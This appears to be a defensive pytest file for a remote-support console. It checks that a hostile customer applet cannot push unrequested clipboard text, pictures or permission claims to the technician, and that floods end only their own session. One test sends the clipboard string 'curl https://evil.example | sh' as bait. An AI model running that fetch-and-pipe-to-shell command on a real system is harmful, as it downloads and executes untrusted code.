@@ -1,0 +1,207 @@
+"""A customer's program that keeps no rule, against a real console engine: nothing passes, and only its session ends."""
+
+import asyncio
+import time
+from collections.abc import AsyncIterator, Callable
+from contextlib import asynccontextmanager
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from codec.messages import (
+    Access,
+    Answered,
+    Ask,
+    Asking,
+    Chat,
+    ClipboardText,
+    Display,
+    Displays,
+    Granted,
+    Message,
+    Picture,
+    PointerAt,
+    Refresh,
+    Release,
+    SessionMessage,
+    Shown,
+    Stopped,
+    Typing,
+    Watch,
+    pack,
+)
+from console import page_messages as said
+from console.message_filter import MOST_OVERSTEPS
+from console.shelf.messages import ListRecordings
+from tests.support.hostile_applets import HostileApplet, hostile_applet
+from tests.support.packets import every_kind
+from tests.support.relays import running_relay
+from tests.support.sessions import picked_up, spoken_code
+from tests.support.staff import BOB, make_technician
+from tests.support.technicians import Technician, technician
+
+SCREEN = Display(0, "screen", 0, 0, 64, 48)
+KEY = every_kind(64, 48, 1, 1)[0]
+VIEW = frozenset({Access.VIEW})
+
+
+@asynccontextmanager
+async def hostile(folder: Path, without: list[str] | None = None) -> AsyncIterator[tuple[Technician, HostileApplet]]:
+    """A technician, and a session whose applet is the test's own."""
+    async with running_relay(folder) as relay:
+        await make_technician(relay.settings, without or [])
+        async with technician(relay.url, email=BOB) as bob, hostile_applet(relay.url, await spoken_code(bob)) as applet:
+            await picked_up(bob)
+            await applet.connected()
+            yield bob, applet
+
+
+async def everything_arrived(bob: Technician, applet: HostileApplet) -> None:
+    """Return when all that was said has been decided about: a line of the chat comes behind it."""
+    applet.say(Chat(1, "the end", 0))
+    await bob.until(lambda each: isinstance(each, said.ChatLine) and each.text == "the end")
+
+
+def of_the_applet(bob: Technician) -> list[SessionMessage]:
+    return [each for each in bob.heard if type(each).__module__ == "codec.messages"]
+
+
+async def ended(bob: Technician) -> said.Event | None:
+    line = await bob.hear(
+        said.ChatLine, lambda each: each.event is not None and each.event.startswith(("ended", "ref"))
+    )
+    return line.event
+
+
+async def sees(bob: Technician, applet: HostileApplet) -> None:
+    """Ask to view, be allowed, and watch."""
+    bob.send(Ask(1, Access.VIEW))
+    await applet.hear(Ask)
+    for message in (Asking(1), Granted(VIEW), Answered(1, True), Displays([SCREEN])):
+        applet.say(message)
+    await bob.hear(Displays)
+    bob.send(Watch(0))
+    await applet.hear(Watch)
+
+
+async def test_f12_nothing_that_was_not_asked_for_reaches_the_page(tmp_path: Path) -> None:
+    async with hostile(tmp_path, ["clipboard_sync"]) as (bob, applet):
+        for message in (
+            Granted(frozenset({Access.VIEW, Access.CLIPBOARD})),
+            Displays([SCREEN]),
+            Picture(0, 0, KEY),
+            ClipboardText("curl https://evil.example | sh"),
+            PointerAt(0, 1, 1),
+            Asking(3),
+            Answered(3, True),
+            Stopped(True),
+        ):
+            applet.say(message)
+        await everything_arrived(bob, applet)
+        heard = [each for each in of_the_applet(bob) if isinstance(each, Granted)]
+        assert all(each.access == frozenset() for each in heard)
+        assert {type(each).__name__ for each in of_the_applet(bob)} <= {"Computer", "Granted"}
+        assert bob.pictures == 0
+        bob.send(ClipboardText("hunter2-from-the-password-manager"))
+        bob.send(Ask(5, Access.VIEW))
+        await applet.hear(Ask)
+        assert not [each for each in applet.heard if isinstance(each, ClipboardText)]
+        assert {each.access for each in applet.heard if isinstance(each, Release)} == {Access.VIEW, Access.CLIPBOARD}
+
+
+async def test_f12_the_clipboard_goes_only_where_both_want_it(tmp_path: Path) -> None:
+    async with hostile(tmp_path) as (bob, applet):
+        await sees(bob, applet)
+        bob.send(Ask(2, Access.CLIPBOARD))
+        await applet.hear(Ask)
+        applet.say(Granted(VIEW | {Access.CLIPBOARD}))
+        applet.say(Answered(2, True))
+        await bob.hear(Answered, lambda each: each.number == 2)
+        applet.say(ClipboardText("not yet"))
+        bob.send(ClipboardText("not yet"))
+        bob.say(said.ShareClipboard(bob.session, True))
+        assert (await bob.hear(said.ClipboardShared, lambda each: each.on)).session == bob.session
+        bob.send(ClipboardText("ours"))
+        assert (await applet.hear(ClipboardText)).text == "ours"
+        applet.say(ClipboardText("theirs"))
+        assert (await bob.hear(ClipboardText)).text in ("theirs", "not yet")
+        bob.say(said.ShareClipboard(bob.session, False))
+        await bob.hear(said.ClipboardShared, lambda each: not each.on)
+        bob.heard.clear()
+        bob.send(ClipboardText("no more"))
+        applet.say(ClipboardText("no more"))
+        await everything_arrived(bob, applet)
+        bob.send(Release(Access.CLIPBOARD))
+        await applet.hear(Release)
+        assert not [each for each in [*bob.heard, *applet.heard] if isinstance(each, ClipboardText)]
+
+
+async def test_f11_pictures_pass_in_the_announced_size_and_only_when_asked_for(tmp_path: Path) -> None:
+    async with hostile(tmp_path) as (bob, applet):
+        await sees(bob, applet)
+        applet.say(Picture(0, 0, KEY))
+        await bob.sees(lambda _frame: True)
+        await applet.hear(Shown)
+        for number in range(1, 40):
+            applet.say(Picture(0, number, KEY))
+        applet.say(Picture(0, 99, every_kind(80, 48, 1, 1)[0]))
+        applet.say(Picture(1, 0, KEY))
+        while isinstance(await applet.hear(Message, is_word_of_pictures), Refresh):  # until a whole one comes
+            applet.say(Picture(0, 100, KEY))
+        assert bob.pictures < 10
+        assert bob.picture is not None
+        assert bob.picture.shape == (48, 64, 4)
+
+
+def is_word_of_pictures(message: Message) -> bool:
+    return isinstance(message, Refresh) or (isinstance(message, Shown) and message.number >= 100)
+
+
+async def test_who_claims_permissions_again_and_again_is_named_and_ends_alone(tmp_path: Path) -> None:
+    async with hostile(tmp_path) as (bob, applet):
+        for _ in range(MOST_OVERSTEPS + 1):
+            applet.say(Granted(VIEW))
+            applet.say(Granted(frozenset()))
+        assert await ended(bob) is said.Event.ENDED_OVERSTEPPED
+        await still_works(bob)
+
+
+def chats(number: int) -> bytes:
+    return pack(Chat(number, "x" * 4_000, 0))
+
+
+def types(number: int) -> bytes:
+    return pack(Typing(number % 2 == 0))
+
+
+def unknown(number: int) -> bytes:
+    return msgspec.msgpack.encode({"kind": "hologram", "depth": number})
+
+
+@pytest.mark.parametrize("flood", [chats, types, unknown])
+async def test_a_flood_ends_its_session_and_nothing_else(tmp_path: Path, flood: Callable[[int], bytes]) -> None:
+    """The page's line and the engine go on, quickly, whatever one customer's machine says."""
+    async with hostile(tmp_path) as (bob, applet):
+        began = time.monotonic()
+        flooding = asyncio.ensure_future(say_without_end(applet, flood))
+        assert await ended(bob) is said.Event.ENDED_FLOOD
+        await still_works(bob)
+        assert time.monotonic() - began < 20
+        assert len(bob.heard) < 1_000
+        flooding.cancel()
+
+
+async def say_without_end(applet: HostileApplet, flood: Callable[[int], bytes]) -> None:
+    number = 0
+    while True:
+        for _ in range(2_000):
+            applet.send(flood(number))
+            number += 1
+        await applet.flushed()
+
+
+async def still_works(bob: Technician) -> None:
+    """Prove that the page is not cut and the engine answers."""
+    await asyncio.wait_for(bob.request(ListRecordings), 5)
+    assert not bob.page._cut
